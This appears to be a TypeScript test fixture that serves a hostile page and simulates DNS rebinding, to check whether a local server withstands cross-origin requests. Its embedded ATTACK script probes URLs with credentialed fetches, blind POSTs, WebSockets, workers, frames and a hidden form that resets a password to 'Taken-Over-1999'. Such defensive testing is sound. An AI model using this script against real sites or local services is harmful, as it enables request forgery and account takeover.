import { once } from 'node:events';
import { createServer, type IncomingHttpHeaders } from 'node:http';
import { type AddressInfo, connect, createServer as createSocketServer, type Socket } from 'node:net';

/** A site of somebody else's. */
interface ForeignSite extends AsyncDisposable {
  readonly port: number;
  /** What it was asked and told. */
  readonly asked: readonly { readonly url: string | undefined; readonly headers: IncomingHttpHeaders }[];
}

/** Serves a page that is empty but for `attack`, under whatever name and path it is called by. */
export async function foreignSite(): Promise<ForeignSite> {
  const asked: { url: string | undefined; headers: IncomingHttpHeaders }[] = [];
  const server = createServer(({ url, headers }, response) => {
    asked.push({ url, headers });
    response.writeHead(200, { 'content-type': 'text/html' }).end(FOREIGN_PAGE);
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    asked,
    [Symbol.asyncDispose]: async () => {
      server.closeAllConnections();
      await new Promise((closed) => void server.close(closed));
    },
  };
}

/** A port that leads to another one, and then to yet another: what a name does whose owner changes its address. */
export interface Rebinding extends AsyncDisposable {
  readonly port: number;
  /** Leads to this port from now on; what was open is cut. */
  lead(port: number): void;
}

/** A port that leads to `first` until it is told otherwise. */
export async function rebinding(first: number): Promise<Rebinding> {
  let target = first;
  const open = new Set<Socket>();
  const cut = () => {
    for (const socket of open) socket.destroy();
  };
  const server = createSocketServer((from) => {
    const to = connect(target, '127.0.0.1');
    for (const [one, other] of [[from, to] as const, [to, from] as const]) {
      open.add(one.on('error', () => other.destroy()).once('close', () => open.delete(one)));
      one.pipe(other);
    }
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  return {
    port: (server.address() as AddressInfo).port,
    lead: (port) => {
      target = port;
      cut();
    },
    [Symbol.asyncDispose]: async () => {
      cut();
      await new Promise((closed) => void server.close(closed));
    },
  };
}

/**
 * Tries on every URL whatever a page can make a browser do, with the credentials given, and tells what came of it:
 * answers that could be read, connections that opened, code and images that ran. What merely was sent does not count.
 */
const ATTACK = `async function attack(urls, authorization) {
  const won = [];
  const trying = (way, work) => Promise.resolve().then(work).then((it) => it && won.push(way), () => {});
  const told = (target, good, bad) => new Promise((done) => {
    target.addEventListener(good, () => done(true));
    target.addEventListener(bad, () => done(false));
  });
  const put = (name, members) => {
    const element = Object.assign(document.createElement(name), members);
    document.body.append(element);
    return element;
  };
  const asked = async (url, init) => {
    const answer = await fetch(url, { cache: 'no-store', ...init, signal: AbortSignal.timeout(9000) });
    return answer.type !== 'opaque' && (await answer.text()) !== undefined;
  };
  const json = { authorization, 'content-type': 'application/json' };
  const form = { 'content-type': 'application/x-www-form-urlencoded' };
  const typed = 'password-reset=Taken-Over-1999&re-enter-password=Taken-Over-1999&action=default';
  const each = (url) => [
    ['get', () => asked(url, { credentials: 'include' })],
    ['get with a token', () => asked(url, { headers: { authorization } })],
    ...['POST', 'DELETE'].map((method) => [method, () => asked(url, { method, headers: json, body: '{}' })]),
    ['get blind', () => asked(url, { mode: 'no-cors', credentials: 'include' })],
    ['post blind', () => asked(url, { mode: 'no-cors', credentials: 'include', method: 'POST', headers: form, body: typed })],
    ['beacon', () => navigator.sendBeacon(url, new URLSearchParams(typed)) && false],
    ['events', () => { const it = new EventSource(url); return told(it, 'open', 'error').finally(() => it.close()); }],
    ['socket', () => told(new WebSocket(url.replace(/^http/, 'ws')), 'open', 'error')],
    ['image', () => told(put('img', { src: url }), 'load', 'error')],
    ['script', () => told(put('script', { src: url }), 'load', 'error')],
    ['style', () => told(put('link', { rel: 'stylesheet', href: url }), 'load', 'error')],
    ['worker', () => { const it = new Worker(url); it.onmessage = () => {}; return told(it, 'message', 'error'); }],
    ['service worker', () => navigator.serviceWorker?.register(url)],
    ['frame', async () => {
      const frame = put('iframe', { src: url });
      await told(frame, 'load', 'error');
      return Boolean(frame.contentDocument?.body?.innerHTML) || frame.contentWindow.document.title;
    }],
    ['form', async () => {
      const frame = put('iframe', { name: 'f' + Math.random() });
      const it = put('form', { action: url, method: 'post', target: frame.name });
      for (const [name, value] of new URLSearchParams(typed)) it.append(Object.assign(document.createElement('input'), { name, value }));
      const loaded = told(frame, 'load', 'error');
      it.submit();
      await loaded;
      return frame.contentWindow.document.body.innerHTML;
    }],
  ];
  for (const url of urls) await Promise.all(each(url).map(([way, work]) => trying(way + ' ' + url, work)));
  return won.sort();
}`;

/** Framed without an origin of its own it does as it is told from outside. */
const FOREIGN_PAGE = `<!doctype html><title>A page</title><body><script>${ATTACK}
addEventListener('message', async ({ data, source }) => {
  if (data.attack) source.postMessage({ won: await attack(...data.attack) }, '*');
});
function attackFromNowhere(...args) {
  const frame = Object.assign(document.createElement('iframe'), { sandbox: 'allow-scripts allow-forms', src: '/' });
  frame.onload = () => frame.contentWindow.postMessage({ attack: args }, '*');
  document.body.append(frame);
  return new Promise((done) => addEventListener('message', ({ data }) => data.won && done(data.won)));
}
</script>`;
